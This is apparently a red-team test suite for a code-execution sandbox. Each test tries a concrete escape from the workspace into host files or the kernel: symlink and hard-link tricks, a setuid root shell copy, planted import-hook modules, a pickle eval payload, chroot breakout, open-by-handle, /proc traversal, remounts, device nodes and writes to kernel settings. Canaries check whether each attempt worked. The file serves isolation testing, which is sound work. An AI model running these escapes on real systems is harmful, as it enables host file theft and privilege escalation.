"""Out of the workspace, into the host's files."""

from __future__ import annotations

from tests.redteam.attack import arrives, claims, command, python, shows, spoils, steps
from tests.redteam.promises import Promise
from tests.redteam.scene import Scene, files_with


@steps("swap-the-workspace", Promise.FILES, breaks_plain=True)
async def swap_the_workspace(scene: Scene) -> str | None:
    """The working directory is replaced by a link to the host's folder; later writes land there."""
    await scene.python(
        "here = os.getcwd()\nos.rename(here, here + '-moved')\nos.symlink(HOST_FOLDER, here)"
    )
    await scene.python("os.chdir(here)\nopen('landed', 'w').write(TOKEN)")
    await scene.command('echo "$TOKEN" > landed-too')
    return scene.arena.canaries.spoiled()


@steps("leave-a-setuid-program", Promise.FILES)
async def leave_a_setuid_program(scene: Scene) -> str | None:
    """A set-uid copy of a shell in the workspace would serve any user of the host."""
    await scene.python(
        "import shutil\nshutil.copy('/bin/sh', TOKEN)\nos.chmod(TOKEN, 0o6755)\n"
        "time.sleep(0.05)\nprint(oct(os.stat(TOKEN).st_mode))"
    )
    for path in files_with(scene.token, scene.arena.running.folder):
        status = path.lstat()
        if status.st_uid == 0 and status.st_mode & 0o4000:
            return f"a set-uid program of root lies on the host: {path}"
    return None


@steps("plant-modules-for-the-server", Promise.FILES, breaks_plain=True)
async def plant_modules_for_the_server(scene: Scene) -> str | None:
    """Modules in the workspace that whoever imports them, perhaps a trusted process, executes."""
    await scene.python(
        "spy = f'''import os\n"
        "text = open({HOST_FILE!r}).read()\n"
        "open('stolen', 'a').write(text)\n'''\n"
        "for name in ('sitecustomize', 'usercustomize', 'numpy', 'html', 'colorsys'):\n"
        "    Path(name + '.py').write_text(spy)"
    )
    await scene.agent.python(await scene.sandbox(), "import colorsys\n1/0")
    await scene.command("python3 -c 'import colorsys'; cat stolen; true")
    return shows("host_file")(scene)


@steps("evil-last-value", Promise.FILES, breaks_plain=True)
async def evil_last_value(scene: Scene) -> str | None:
    """A last value whose protocols for pickling and display act in whoever asks for them."""
    code = f"""
class Evil:
    def steal(self, *_):
        try:
            return open({scene.facts["HOST_FILE"]!r}).read()
        except OSError as refusal:
            return f'attack-began {{refusal}}'
    __repr__ = __str__ = _repr_html_ = steal
    def __reduce__(self):
        return (eval, (f"open({scene.facts["HOST_FILE"]!r}).read()",))
Evil()
"""
    reply = scene.keep(await scene.agent.python(await scene.sandbox(), code))
    assert "Evil" not in reply.text, "the value was not asked for"
    return shows("host_file")(scene)


ATTACKS = (
    python(
        "read-host-file",
        Promise.FILES,
        "print(open(HOST_FILE).read())",
        shows("host_file"),
        breaks_plain=True,
    ),
    command(
        "write-host-file",
        Promise.FILES,
        'echo spoiled >> "$VICTIM"; touch "$HOST_FOLDER/new"',
        spoils(),
        breaks_plain=True,
    ),
    python("delete-host-file", Promise.FILES, "os.unlink(HOST_FILE)", spoils(), breaks_plain=True),
    command(
        "read-through-a-symlink",
        Promise.FILES,
        'ln -s "$HOST_FOLDER" out && cat out/host.txt',
        shows("host_file"),
        breaks_plain=True,
    ),
    python(
        "hard-link-a-host-file",
        Promise.FILES,
        "os.link(VICTIM, 'mine')\nopen('mine', 'a').write(TOKEN)",
        spoils(),
    ),
    python(
        "climb-by-dots",
        Promise.FILES,
        "for _ in range(60): os.chdir('..')\nprint(open('.' + HOST_FILE).read())",
        shows("host_file"),
        breaks_plain=True,
    ),
    python(
        "roots-of-other-processes",
        Promise.FILES,
        "for folder in processes():\n    reveal(peek(folder + '/root' + HOST_FILE))",
        shows("host_file"),
        breaks_plain=True,
    ),
    python(
        "folders-of-other-processes",
        Promise.FILES,
        "for folder in processes():\n    reveal(peek(folder + '/cwd/host.txt'))",
        shows("host_file"),
        breaks_plain=True,
    ),
    python(
        "files-that-others-hold-open",
        Promise.FILES,
        "reveal(peek(f'/proc/{DECOY_PID}/fd/{DECOY_FD}'))",
        shows("open_file"),
        breaks_plain=True,
    ),
    python(
        "folders-inherited-as-descriptors",
        Promise.FILES,
        """
for fd in map(int, os.listdir('/proc/self/fd')):
    for path in ('../' * 40 + HOST_FILE, '.' + HOST_FILE):
        try:
            reveal(os.read(os.open(path, os.O_RDONLY, dir_fd=fd), 4096))
        except OSError:
            pass
""",
        shows("host_file"),
    ),
    python(
        "open-by-handle",
        Promise.FILES,
        """
root = os.open('/', os.O_RDONLY)
for inode in (2, 64, 128, 256):
    for kind in (1, 0x81):
        handle = struct.pack('IiII', 8, kind, inode, 0)
        fd = libc.open_by_handle_at(root, handle, os.O_RDONLY)
        if fd >= 0:
            breached('opened an inode by its number')
            reveal(os.read(os.open('.' + HOST_FILE, os.O_RDONLY, dir_fd=fd), 4096))
            break
""",
        claims(),
    ),
    python(
        "chroot-and-out-again",
        Promise.FILES,
        """
def out():
    os.mkdir('cage')
    outside = os.open('.', os.O_RDONLY)
    os.chroot('cage')
    os.fchdir(outside)
    for _ in range(60): os.chdir('..')
    os.chroot('.')
    reveal(peek(HOST_FILE))
forked(out)
""",
        shows("host_file"),
    ),
    python(
        "uncover-by-unmounting",
        Promise.FILES,
        """
for place in ('/tmp', '/proc', '/dev/shm', os.getcwd(), '/run', '/'):
    if libc.umount2(place.encode(), 2) == 0:
        breached(f'unmounted {place}')
    reveal(peek(HOST_FILE))
""",
        claims(),
        shows("host_file"),
        on_plain=False,
    ),
    python(
        "remount-writable",
        Promise.FILES,
        """
for place in ('/', '/usr', sys.prefix, '/etc'):
    if libc.mount(None, place.encode(), None, 32 | 4096, None) == 0:
        breached(f'remounted {place}')
""",
        claims(),
        on_plain=False,
    ),
    python(
        "make-the-disk's-device",
        Promise.FILES,
        """
for line in Path('/proc/partitions').read_text().splitlines()[2:]:
    major, minor = map(int, line.split()[:2])
    os.mknod('disk', 0o60600, os.makedev(major, minor))
    os.read(os.open('disk', os.O_RDONLY), 512)
    breached(f'read the disk {major}:{minor}')
    break
""",
        claims(),
    ),
    python(
        "devices-at-hand",
        Promise.KERNEL,
        """
harmless = {'null', 'zero', 'full', 'random', 'urandom', 'tty', 'ptmx', 'stdin', 'stdout', 'stderr'}
for path in Path('/dev').rglob('*'):
    if path.name in harmless or path.is_dir() or path.is_file() or path.parts[2] in ('fd', 'shm'):
        continue
    try:
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
    except OSError:
        continue
    breached(f'opened the device {path}')
""",
        claims(),
    ),
    python(
        "knobs-of-the-kernel",
        Promise.KERNEL,
        """
for name in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sysrq-trigger',
             '/sys/kernel/uevent_helper', '/proc/sys/vm/overcommit_memory', '/sys/power/state'):
    try:
        os.close(os.open(name, os.O_WRONLY))
    except OSError:
        continue
    breached(f'{name} can be written')
""",
        claims(),
    ),
    python(
        "control-groups",
        Promise.KERNEL,
        """
for folder in ('/sys/fs/cgroup', '/sys/fs/cgroup/memory', '/sys/fs/cgroup/unified'):
    try:
        os.mkdir(f'{folder}/{TOKEN}')
    except OSError:
        continue
    os.rmdir(f'{folder}/{TOKEN}')
    breached(f'made a control group in {folder}')
""",
        claims(),
    ),
    python(
        "poison-the-interpreter",
        Promise.FILES,
        """
import json, encodings
for module in (os, json, encodings, socket):
    try:
        os.close(os.open(module.__file__, os.O_RDWR))
        breached(f'{module.__file__} can be written')
    except OSError as refusal:
        print(refusal)
for folder in sys.path:
    if folder.endswith('site-packages') and os.access(folder, os.W_OK):
        breached(f'{folder} can be written')
""",
        claims(),
        breaks_plain=True,
    ),
    python(
        "terminals-of-the-host",
        Promise.FILES,
        """
import fcntl, termios
for path in ['/dev/console', '/dev/tty0', '/dev/tty1', *map(str, Path('/dev/pts').glob('[0-9]*'))]:
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        continue
    breached(f'opened {path}')
""",
        claims(),
    ),
    command(
        "sweep-the-tree",
        Promise.FILES,
        'timeout 15 grep -rhs --binary-files=without-match -o "canary-[a-z_]*-[0-9a-f]*" '
        '"$HOST_FOLDER" "$PLATFORM_FOLDER" /tmp /var/tmp /home /mnt /opt /srv /run/user; true',
        shows("host_file"),
        shows("other_key"),
        shows("home"),
        breaks_plain=True,
        timeout_s=25,
    ),
    python(
        "connect-to-service-sockets",
        Promise.FILES,
        """
for path in [UNIX_PATH, *Path('/run').rglob('*.sock'), *Path(PLATFORM_FOLDER).rglob('*.sock')]:
    with socket.socket(socket.AF_UNIX) as caller:
        try:
            caller.connect(str(path))
        except OSError:
            continue
        breached(f'connected to {path}')
        caller.sendall(TOKEN.encode())
        time.sleep(0.1)
""",
        arrives(),
        claims(),
        breaks_plain=True,
    ),
    swap_the_workspace,
    leave_a_setuid_program,
    plant_modules_for_the_server,
    evil_last_value,
)
